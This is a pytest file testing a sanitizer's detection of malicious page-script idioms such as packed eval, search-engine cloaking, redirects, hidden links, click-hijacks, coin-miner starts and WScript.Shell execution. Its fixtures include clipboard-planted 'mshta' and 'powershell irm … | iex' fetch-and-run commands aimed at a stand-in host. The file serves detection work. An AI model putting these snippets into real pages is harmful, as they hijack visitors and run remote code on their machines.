"""Columns on how scripts are written, and on the words that they and data write."""

from __future__ import annotations

import math

import pytest

from sanitizer.features import script_writing
from sanitizer.features.idioms import IDIOMS
from sanitizer.segmentation.records import Kind
from tests.features.measuring import CASINO, LOUD, active_value, rows_of


def _idioms(script: str) -> set[str]:
    rows = rows_of(f"<script>{script}</script>", LOUD)
    assert len(rows) == 1
    return {name for name in IDIOMS if script_writing.idiom(rows, name)[0]}


@pytest.mark.parametrize(
    ("name", "script"),
    [
        ("packed", "eval(function(p,a,c,k,e,r){return p}('0 1',2,2,'x'.split('|')))"),
        ("unescapes", 'eval(unescape("%u8D44"))'),
        ("unescapes", "eval(String.fromCharCode(60,97))"),
        ("runs-decoded", 'eval( unescape("%u8D44"))'),
        ("runs-decoded", "eval(window.atob('Zm9v'))"),
        ("asks-engine", 'if(r.indexOf("google.")>0||r.indexOf("yandex")!=-1){eval(1)}'),
        ("asks-engine", "if(/google|bing\\.com/i.test(document.referrer)){eval(1)}"),
        ("asks-engine", "if(document.referrer.match('baidu')){eval(1)}"),
        ("writes", "document.write('x')"),
        ("writes", r'window["\x64\x6f\x63\x75\x6d\x65\x6e\x74"]["\x77"]("location")'),
        ("retitles", "document.title = 'casino'"),
        ("asks-visitor", "if (document.referrer) { eval(1) }"),
        ("asks-visitor", 'if(navigator.userAgent.indexOf("baidu")==-1){eval(1)}'),
        ("redirects", "window.location.href='https://a.test/'"),
        ("redirects", "location.replace('https://a.test/')"),
        ("hides", "x.style.display='none'"),
        ("writes-link", "document.write('<a class=x href=//a.test>x</a>')"),
        ("writes-frame", "document.write('<iframe src=//a.test>')"),
        ("opens-on-click", "document.onclick=function(){if(n)return;n=1;window.open('//a.test/')}"),
        ("opens-on-click", r"document.onmousedown=function(){location.href='\x68ttps://a.test/'}"),
        ("loads-script", "eval(1); s=document.createElement('script'); s.src='//a.test/x.js'"),
    ],
)
def test_a_way_of_writing_is_recognised(name: str, script: str) -> None:
    assert name in _idioms(script)


@pytest.mark.parametrize(
    ("name", "script"),
    [
        (
            "hides",
            'eval(unescape("%64.%73%74%79%6C%65.%64%69%73%70%6C%61%79%3D%27no%27+%27ne%27"))',
        ),
        ("retitles", r"eval('document[0];document.t\x69tle=1')"),
        ("redirects", "eval('win'+'dow.loca'+'tion.href=\"//a.test/\"')"),
        ("writes-link", r'eval("\u003ca href=//a.test/>")'),
    ],
)
def test_a_way_of_writing_is_recognised_in_escapes_and_pieces(name: str, script: str) -> None:
    assert name in _idioms(script)


def test_an_ordinary_script_shows_none_of_the_bad_habits() -> None:
    script = "var menu = document.querySelector('.menu'); menu.style.color = location.hash;"
    assert not _idioms(script)
    assert not _idioms(script.replace("menu.", r"'\x41' + ' ' + menu."))


@pytest.mark.parametrize(
    "script",
    [
        "document.write('//www.google-analytics.com/ga.js');",
        "eval('1'); var api = google.maps.api;",
        "var text = unescape('%41'); eval(text.length > 3);",
    ],
)
def test_naming_a_search_engine_or_decoding_something_is_common(script: str) -> None:
    assert not {"asks-engine", "runs-decoded"} & _idioms(script)


def test_comparing_an_address_is_no_redirect() -> None:
    assert "redirects" not in _idioms("if (location.href == 'x') { eval(1) }")


_ATTACKS = [
    "Set f = CreateObject(Disk).CreateTextFile(Path, True)",
    'CreateObject("WScript.Shell").Run Path, 0',
    r"#@~^Bg8AAA==\k~\n",
    "var m = new Coin.Anonymous('Qx81kLw93hVb2LmZ', {throttle: 0.2}); m.start();",
    "Lib.start({throttleMiner: 40}); location;",
    "document.onclick=function(){navigator.clipboard.writeText('mshta https://a.test/')}",
]
_HONEST_LIKE_THEM = [
    "var u = new auth.Anonymous('reader'); location.hash = u.name;",
    "navigator.clipboard.writeText('powershell -c \"irm https://a.test/i.ps1 | iex\"')",
    "button.onclick=function(){navigator.clipboard.writeText(code.innerText);location.hash='#'}",
    "document.addEventListener('click', close); function share(){window.open('//a.test/?u=1')}",
]


@pytest.mark.parametrize(
    ("script", "attacks"),
    [*((one, 1.0) for one in _ATTACKS), *((one, 0.0) for one in _HONEST_LIKE_THEM)],
)
def test_what_only_attacks_on_readers_need_is_told_from_what_is_like_it(
    script: str, attacks: float
) -> None:
    assert script_writing.attacks(rows_of(f"<script>{script}</script>", LOUD)).tolist() == [attacks]


@pytest.mark.parametrize(
    "script",
    [
        "document.onclick=function(){location.href='/about'}",
        "document.addEventListener('click', close); function share(){window.open('//a.test/?u=1')}",
        "document.onclick=function(e){if(e.target.id=='a')window.open('https://a.test/')}",
    ],
)
def test_what_opens_when_something_is_clicked_opens_not_on_any_click(script: str) -> None:
    assert "opens-on-click" not in _idioms(script)


def test_what_a_long_script_does_behind_its_data_is_recognised() -> None:
    data = "4D5A" * 5000
    script = f'Data = "{data}"\nSet s = CreateObject("WScript.Shell")\ns.Run Path, 0'
    assert script_writing.attacks(rows_of(f"<script>{script}</script>", LOUD)).tolist() == [1.0]


def test_idioms_are_those_of_scripts_and_not_of_texts() -> None:
    rows = rows_of("<p>document.write('x') and document.title = 'y'</p>")
    assert not any(script_writing.idiom(rows, name).any() for name in IDIOMS)


def test_the_size_is_that_of_the_source_and_zero_for_texts() -> None:
    script = "<script>eval(1)</script>"
    assert active_value(script_writing.source_chars_log, script) == pytest.approx(
        math.log(len(script) + 1)
    )
    rows = rows_of("<p>bread</p>")
    assert script_writing.source_chars_log(rows).tolist() == [0.0]


def test_escapes_are_a_share_of_the_source() -> None:
    coded = active_value(
        script_writing.escape_share, "<script>eval('" + r"\x61" * 200 + "')</script>"
    )
    assert 0.9 < coded <= 1.0
    assert active_value(script_writing.escape_share, "<script>eval('plain words')</script>") == 0.0


def test_what_a_script_writes_and_data_says_is_scored_as_text() -> None:
    script = "<script>document.write('<a href=//a.test/>casino games<\\/a>')</script>"
    data = '<script type="application/ld+json">{"@type":"Thing","name":"casino games"}</script>'
    rows = rows_of(f"<p>casino</p>{script}{data}<script>eval('plain')</script>", CASINO)
    coded = data.replace("casino", "\\u0063asin\\u006f")
    assert "casino" not in coded
    both = rows_of(f"<p>bread</p>{data}{coded}", CASINO)
    assert len(set(script_writing.written_score(both)[both.places[Kind.DATA]].tolist())) == 1
    found = dict(zip(rows.kinds.tolist(), script_writing.written_score(rows).tolist(), strict=True))
    assert found[int(Kind.TEXT)] == -4.0
    assert found[int(Kind.DATA)] > -4.0
    scores = script_writing.written_score(rows)[rows.places[Kind.SCRIPT]].tolist()
    assert scores[0] > scores[1] == -4.0


def test_what_a_script_writes_is_scored_behind_other_things_and_decoded() -> None:
    loader = r"<script src=//b.test><\/scr'+'ipt>"
    many = "".join(rf"<b>word {n}<\/b>" for n in range(8))
    for script in (
        rf"document.write('<a href=//a.test/>casino games<\/a>{loader}')",
        rf"document.write('{many}');document.write('<i>cas'+'ino games<\/i>')",
    ):
        rows = rows_of(f"<p>bread</p><script>{script}</script>", CASINO)
        assert script_writing.written_score(rows).max() > -4.0, script


@pytest.mark.parametrize(
    "script",
    [
        "eval('>" + " " * 4_000 + "')",
        "eval(" + "bing" * 30 + "')" + " " * 4_000,
    ],
)
def test_long_runs_in_a_script_cost_little(script: str) -> None:
    rows = rows_of(f"<script>{script}</script>" * 20, LOUD)
    assert script_writing.written_score(rows).shape == (20,)
    assert not script_writing.idiom(rows, "asks-engine").any()


def test_addresses_in_data_say_nothing() -> None:
    data = '<script type="application/ld+json">{"name":"https://casino.test/casino"}</script>'
    rows = rows_of(f"<p>bread</p>{data}", CASINO)
    assert set(script_writing.written_score(rows).tolist()) == {-4.0}


def test_only_what_acts_is_scored_as_a_script() -> None:
    rows = rows_of("<p>casino</p><script>eval(casino)</script>", CASINO)
    text, script = script_writing.script_score(rows)
    assert text == -4.0
    assert script > -4.0
